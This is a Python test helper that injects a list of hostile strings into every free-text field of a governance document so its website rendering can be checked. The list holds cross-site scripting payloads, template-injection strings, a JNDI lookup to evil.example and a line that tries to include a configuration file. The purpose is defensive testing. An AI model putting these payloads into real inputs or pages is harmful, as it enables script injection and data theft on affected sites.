"""Texts that want to be more than text, and documents that hold one in every field that takes it."""

import copy
import json
from collections.abc import Iterator
from functools import cache
from typing import Any

from mlgov.checks.kinds import MODELS
from mlgov.documents import find, load
from mlgov.lifecycle import validate
from mlgov.names import Kind
from tests.website.documents import yaml_of

PAYLOADS = [
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<!-- comment",
    "-->",
    "<![CDATA[x]]>",
    "<?php echo 1 ?>",
    "</div></div></article><h1>Mine",
    "</textarea></style></script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "&amp;amp;",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "[x]: https://evil.example",
    "<https://evil.example>",
    "https://evil.example/path",
    "www.evil.example",
    "@somebody #123",
    "*bold* **strong** ***both***",
    "_em_ __strong__",
    "`code` ``more``",
    "~~gone~~ ==mark== ^^ins^^ {++add++}",
    "# Heading",
    "## Heading {: #top onclick=alert(1) }",
    "{: onclick=alert(1) .mg-alarm }",
    "| a | b |",
    "|---|---|",
    "```mermaid\ngraph LR\n```",
    "```\ncode\n```",
    "~~~js\ncode\n~~~",
    "    indented code",
    "> quote",
    "- item\n- item",
    "1. item",
    "---",
    "===",
    "title: other\n---",
    "--8<-- 'mlgov.toml'",
    ';--8<-- "mlgov.toml"',
    "{{ config }}",
    "{% include 'x' %}",
    "{# gone #}",
    "${jndi:ldap://evil.example}",
    "${{ secrets.TOKEN }}",
    "$$x^2$$ \\(y\\)",
    '!!! danger "Mine"\n    text',
    "??? note",
    '=== "Tab"',
    ":smile: :material-alert:",
    "++ctrl+c++",
    "*[HTML]: abbreviation",
    "[^1] note\n\n[^1]: text",
    "term\n: definition",
    "(c) (tm) --> <-- 1/2",
    "\\*escaped\\* \\<b\\>",
    '<div markdown="1">**x**</div>',
    "a\n\n<script>alert(1)</script>\n\nb",
    '<a href="java&#10;script:alert(1)">x</a>',
    "STX\tETX klzzwxh:0001 wzxhzdk:0",
]
KINDS = {kind.value: kind for kind in Kind}


#: What a field must take to be free text. Names, patterns and enumerations do not.
PROBE = "<b>*`{"


#: Characters that the shortest free-text field takes.
SHORTEST = 63


def hostile(document: dict[str, Any], payload: str) -> dict[str, Any]:
    """Put the payload into every free-text field of a document; into a path without what parts paths."""
    found = copy.deepcopy(document)
    for pointer in _free(json.dumps(document)):
        text = payload.replace("/", "").replace("\\", "") if pointer[-1] in ("path", "uri") else payload
        _put(found, pointer, text[:SHORTEST])
    assert _valid(found)
    return found


@cache
def _free(text: str) -> list[tuple[str | int, ...]]:
    document = json.loads(text)
    found = []
    for part in ("spec", "metadata"):
        for pointer in _texts(document[part], (part,)):
            tried = copy.deepcopy(document)
            _put(tried, pointer, PROBE)
            if _valid(tried):
                found.append(pointer)
    return found


def _texts(value: Any, pointer: tuple[str | int, ...]) -> Iterator[tuple[str | int, ...]]:
    if isinstance(value, str):
        yield pointer
    entries = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, inner in entries:
        yield from _texts(inner, (*pointer, key))


def _put(document: dict[str, Any], pointer: tuple[str | int, ...], text: str) -> None:
    _, parent = find(document, pointer[:-1])
    parent[pointer[-1]] = text


def _valid(document: dict[str, Any]) -> bool:
    read, _ = load(yaml_of(document), "x.yaml")
    return read is not None and validate(read, MODELS[KINDS[document["kind"]]])[0] is not None
